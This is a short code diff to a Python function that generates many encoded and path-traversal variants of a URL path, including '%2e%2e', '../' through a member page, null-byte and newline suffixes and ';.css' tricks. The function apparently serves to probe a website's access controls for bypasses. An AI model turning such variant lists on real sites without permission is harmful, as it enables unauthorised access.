@@ -108,7 +108,7 @@ def variants(path: str) -> list[str]:
         path.replace("/", "//"), "/" + inner.replace("/", "%2f"), "/" + inner.replace("/", "%2F"),
         "/lich/%2e%2e/" + inner, "/lich/../" + inner, "/lich/%2E%2E%2f" + inner, "/./" + inner, "/%2e/" + inner,
         f"/thanh-vien/{MEMBER}.html/../../" + inner, f"/thanh-vien/{MEMBER}.html%2f..%2f..%2f" + inner,
-        path + ".", path + "..", path + "/", path + "%20", path + "%00", path + "?x=1", path + ";.css",
+        path + ".", path + "..", path + "/", path + "%20", path + "%00", path + "%0a", path + "?x=1", path + ";.css",
         path.upper(), path.title(), path.replace(".", "%2e"), "/" + inner.replace("/", "\\"),
         re.sub(r"[a-z]", lambda m: f"%{ord(m.group()):02x}", path, count=3),
     ]
